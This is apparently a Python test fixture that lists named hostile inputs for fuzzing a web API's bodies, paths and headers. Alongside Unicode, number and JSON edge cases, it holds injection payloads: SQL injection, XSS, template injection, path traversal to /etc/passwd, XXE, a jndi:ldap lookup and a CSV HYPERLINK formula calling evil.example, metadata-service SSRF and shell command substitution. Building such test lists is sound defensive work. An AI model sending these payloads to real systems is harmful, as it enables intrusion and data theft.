"""What nobody means well: values, as the bytes they are sent as.

Each value has a name, so that a failure says what it was. The quick form takes the sharp ones, and of the rest those
that the seed chooses.
"""

from urllib.parse import quote

from msgspec import Struct, json
from tests.world import TORTURE


class Bad(Struct, frozen=True):
    """A value: `text` as characters, or `raw` as the bytes of a JSON value. `status`: the only answer there is."""

    name: str
    text: str = ""
    raw: bytes = b""
    status: int = 0
    sharp: bool = False

    def as_json(self) -> bytes:
        return self.raw or json.encode(self.text)


LONG = 1_000_000 if TORTURE else 100_000

TEXTS = [
    Bad("empty", "", sharp=True),
    Bad("blank", "   "),
    Bad("blank in Unicode", "\u00a0\u2003\u3000\t\n"),
    Bad("one character too many for anything", "a" * 20_001, sharp=True),
    Bad("very long", "x" * LONG),
    Bad("letters of four bytes", "𠮷" * 300),
    Bad("right to left override", "abc\u202egnp.exe", sharp=True),
    Bad("isolates", "\u2066\u2067\u2068\u2069"),
    Bad("zero width", "\u200b\u200c\u200d\ufeff"),
    Bad("zero width inside", "Ngu\u200byen"),
    Bad("combining bomb", "Z" + "\u0300\u0301\u0316" * 300, sharp=True),
    Bad("decomposed", "Nguye\u0302\u0303n"),
    Bad("composed", "Nguyễn"),
    Bad("compatibility forms", "ﬁ①Ⅷ℡㎏"),
    Bad("expands when normalised", "\u0958" * 200 + "\ufdfa" * 40),
    Bad("homoglyphs", "аdmin раypal"),
    Bad("casing that grows", "ßİŉǰΐ" * 20),
    Bad("noncharacters", "\ufffe\uffff\U0001fffe"),
    Bad("private use", "\ue000\U000f0000"),
    Bad("emoji with joiners", "👩‍👩‍👧‍👦🏳️‍🌈"),
    Bad("tag characters", "\U000e0041\U000e0042\U000e007f"),
    Bad("line separators", "a\u2028b\u2029c\x85d"),
    Bad("control characters", "\x01\x02\x1b[31mred\x7f", sharp=True),
    Bad("log lines", 'x"}\n{"at":"2026-01-01","level":"error","message":"forged"}', sharp=True),
    Bad("header split", "x\r\nSet-Cookie: a=b\r\n\r\n<html>", sharp=True),
    Bad("SQL quote", "' OR '1'='1' --", sharp=True),
    Bad("SQL stacked", "1; DROP TABLE orders.cart; --"),
    Bad("SQL union", "') UNION SELECT version(), null --"),
    Bad("SQL like", "%_%\\"),
    Bad("SQL sleep", "1' || pg_sleep(5) || '", sharp=True),
    Bad("dollar quotes", "$$; SELECT 1; $$"),
    Bad("parameter", "$1 %s {0} :name ?"),
    Bad("query language", '+title:* AND -(body:"x" OR [a TO z])^99 ~5', sharp=True),
    Bad("query regex", "/.*(a+)+$/ IN [x y]"),
    Bad("query unbalanced", '"(((["'),
    Bad("query wildcard", "*" * 50),
    Bad("template", "{{7*7}}${7*7}<%=7*7%>#{7*7}{%for x in y%}", sharp=True),
    Bad("template class", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    Bad("format", "{0.__class__} %(a)s %n%n%x"),
    Bad("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>", sharp=True),
    Bad("HTML attribute", '" onmouseover="alert(1)" x=\''),
    Bad("HTML url", "javascript:alert(1)//"),
    Bad("HTML comment", "--><svg/onload=alert(1)>]]>"),
    Bad("CSV formula", '=HYPERLINK("http://evil.example","x")'),
    Bad("CSV tab", "\t=1+1"),
    Bad("CSV at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Bad("path", "../../../../etc/passwd", sharp=True),
    Bad("path encoded", "..%2f..%2fetc%2fpasswd"),
    Bad("path Windows", "..\\..\\windows\\win.ini"),
    Bad("file url", "file:///etc/passwd"),
    Bad("other site", "https://evil.example/"),
    Bad("other site without scheme", "//evil.example/", sharp=True),
    Bad("other site by backslash", "/\\evil.example/"),
    Bad("metadata service", "http://169.254.169.254/latest/meta-data/"),
    Bad("shell", "$(sleep 5); `sleep 5` | sleep 5 &"),
    Bad("XML entity", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    Bad("jndi", "${jndi:ldap://evil.example/a}"),
    Bad("LDAP", "*)(uid=*))(|(uid=*"),
    Bad("regex bomb", "a" * 60 + "!", sharp=True),
    Bad("regex bomb for mail", "a@" + "a." * 120 + "!"),
    Bad("regex bomb for digits", "0" * 190 + "x", sharp=True),
    Bad("regex bomb for spaces", "1" + " " * 180 + "x"),
    Bad("hyphens", "-" * 200),
    Bad("digits of other scripts", "１２３٤٥٦"),
    Bad("number as text", "1"),
    Bad("negative as text", "-1"),
    Bad("exponent as text", "1e5"),
    Bad("hexadecimal as text", "0x10"),
    Bad("underscored", "1_000"),
    Bad("not a number as text", "NaN"),
    Bad("infinity as text", "-Infinity"),
    Bad("beyond 64 bits as text", "9223372036854775808", sharp=True),
    Bad("null as text", "null"),
    Bad("undefined", "undefined"),
    Bad("true as text", "true"),
    Bad("UUID of zeros", "00000000-0000-0000-0000-000000000000", sharp=True),
    Bad("UUID of ones", "ffffffff-ffff-ffff-ffff-ffffffffffff"),
    Bad("UUID without hyphens", "0190f1d2c3d47e5f8a9b0c1d2e3f4a5b"),
    Bad("UUID in braces", "{0190f1d2-c3d4-7e5f-8a9b-0c1d2e3f4a5b}"),
    Bad("UUID as urn", "urn:uuid:0190f1d2-c3d4-7e5f-8a9b-0c1d2e3f4a5b"),
    Bad("UUID in capitals", "0190F1D2-C3D4-7E5F-8A9B-0C1D2E3F4A5B"),
    Bad("UUID with a line feed", "0190f1d2-c3d4-7e5f-8a9b-0c1d2e3f4a5b\n"),
    Bad("no such day", "2026-02-30"),
    Bad("year 0", "0000-01-01T00:00:00Z"),
    Bad("year 10000", "10000-01-01T00:00:00Z"),
    Bad("last moment", "9999-12-31T23:59:59.999999Z", sharp=True),
    Bad("first moment", "0001-01-01T00:00:00+14:00", sharp=True),
    Bad("last moment in the west", "9999-12-31T23:59:59-14:00"),
    Bad("leap second", "2026-06-30T23:59:60Z"),
    Bad("without a zone", "2026-01-01T00:00:00"),
    Bad("last day", "9999-12-31"),
    Bad("24 o'clock", "24:00:00"),
    Bad("currency in small letters", "vnd"),
    Bad("no such currency", "ZZZ"),
    Bad("bitcoin", "BTC", sharp=True),
    Bad("country", "KP"),
    Bad("language", "../en"),
    Bad("cursor of nothing", "W10"),
    Bad("cursor of a number", "WzFlOTld"),
    Bad("cursor of a text", "WyJhIl0"),
    Bad("cursor of NUL", "WyJcdTAwMDAiXQ"),
    Bad("cursor of nesting", "W1tbW1tbW11dXV1dXV0"),
    Bad("prototype", "__proto__"),
    Bad("constructor", "constructor"),
]

NUMBERS = [
    Bad("zero", raw=b"0", sharp=True),
    Bad("minus zero", raw=b"-0"),
    Bad("minus zero point zero", raw=b"-0.0"),
    Bad("minus one", raw=b"-1", sharp=True),
    Bad("one half", raw=b"0.5", sharp=True),
    Bad("one point zero", raw=b"1.0"),
    Bad("one as an exponent", raw=b"1e0"),
    Bad("a tiny fraction", raw=b"1e-400"),
    Bad("nearly one", raw=b"0.99999999999999999999"),
    Bad("2^31", raw=b"2147483648", sharp=True),
    Bad("-2^31-1", raw=b"-2147483649"),
    Bad("2^53+1", raw=b"9007199254740993"),
    Bad("2^63-1", raw=b"9223372036854775807", sharp=True),
    Bad("-2^63", raw=b"-9223372036854775808", sharp=True),
    Bad("2^63", raw=b"9223372036854775808", status=400, sharp=True),
    Bad("2^64", raw=b"18446744073709551616", status=400),
    Bad("a number of 5,000 digits", raw=b"9" * 5000, status=400),
    Bad("1e308", raw=b"1e308"),
    Bad("1e400", raw=b"1e400", status=400, sharp=True),
    Bad("-1e400", raw=b"-1e400", status=400),
    Bad("NaN", raw=b"NaN", status=400, sharp=True),
    Bad("Infinity", raw=b"Infinity", status=400),
    Bad("-Infinity", raw=b"-Infinity", status=400),
    Bad("leading zero", raw=b"01", status=400),
    Bad("plus", raw=b"+1", status=400),
    Bad("bare point", raw=b".5", status=400),
    Bad("hexadecimal", raw=b"0x1", status=400),
]

KINDS = [
    Bad("null", raw=b"null", sharp=True),
    Bad("true", raw=b"true", sharp=True),
    Bad("false", raw=b"false"),
    Bad("an empty list", raw=b"[]", sharp=True),
    Bad("an empty object", raw=b"{}", sharp=True),
    Bad("a list of a list", raw=b"[[]]"),
    Bad("a list of null", raw=b"[null]"),
    Bad("a list of texts", raw=b'["a","b"]'),
    Bad("an object in the place of a text", raw=b'{"$ne":null}'),
    Bad("an object with a prototype", raw=b'{"__proto__":{"admin":true}}'),
    Bad("a list of 10,000", raw=b"[" + b",".join([b"0"] * 10_000) + b"]"),
    Bad("nested 65 deep", raw=b"[" * 65 + b"]" * 65, status=400),
    Bad("nested 65 deep in objects", raw=b'{"a":' * 65 + b"1" + b"}" * 65, status=400, sharp=True),
    Bad("nested 100,000 deep", raw=b"[" * 100_000 + b"]" * 100_000, status=400, sharp=True),
    Bad("a key twice", raw=b'{"a":1,"a":2}', status=400, sharp=True),
    Bad("a key twice by an escape", raw=b'{"a":1,"\\u0061":2}', status=400),
    Bad("NUL", raw=b'"a\\u0000b"', status=400, sharp=True),
    Bad("NUL in a key", raw=b'{"\\u0000":1}', status=400),
    Bad("half a surrogate pair", raw=b'"\\ud800"', status=400, sharp=True),
    Bad("the other half", raw=b'"\\udfff\\ud800"', status=400),
    Bad("invalid UTF-8", raw=b'"\xff\xfe"', status=400, sharp=True),
    Bad("overlong UTF-8", raw=b'"\xc0\xaf"', status=400),
    Bad("surrogate in UTF-8", raw=b'"\xed\xa0\x80"', status=400),
    Bad("single quotes", raw=b"'a'", status=400),
    Bad("a comment", raw=b"1/**/", status=400),
    Bad("a trailing comma", raw=b"[1,]", status=400),
    Bad("a raw line feed", raw=b'"a\nb"', status=400),
]

IN_BODY = [*TEXTS, *NUMBERS, *KINDS]

# In an address: percent-encoded, and what no encoder would write.
ENCODED = [
    b"%00", b"%FF", b"%C0%AF", b"%ED%A0%80", b"%0A", b"%0D%0AX:1", b"%2E%2E%2F", b"%252e%252e", b"%F0%9F%9B%B6",
    b"%C2%A0", b"%", b"%zz", b"%u0041", b"+", b"%2B1", b"%26", b"%23", b"%3F", b"a;b=c", b"[]", b"{}", b"*",
]  # fmt: skip


def in_address() -> list[tuple[str, bytes]]:
    """Values for paths and queries, with their names."""
    texts = [(bad.name, quote(bad.text[:7000], safe="").encode()) for bad in TEXTS]
    numbers = [(bad.name, bad.raw[:7000]) for bad in NUMBERS if b"+" not in bad.raw]
    return [*texts, *numbers, *((f"bytes {raw!r}", raw) for raw in ENCODED)]


# In a header: bytes that a server lets pass.
IN_HEADER = [
    (bad.name, bad.text[:4000].encode())
    for bad in TEXTS
    if bad.text and not any(character in bad.text for character in "\r\n") and bad.text.isprintable()
] + [("bytes", b"\xff\xfe\x80"), ("a tab", b"a\tb"), ("commas", b"," * 500), ("equal signs", b"=;=;q=" * 200)]
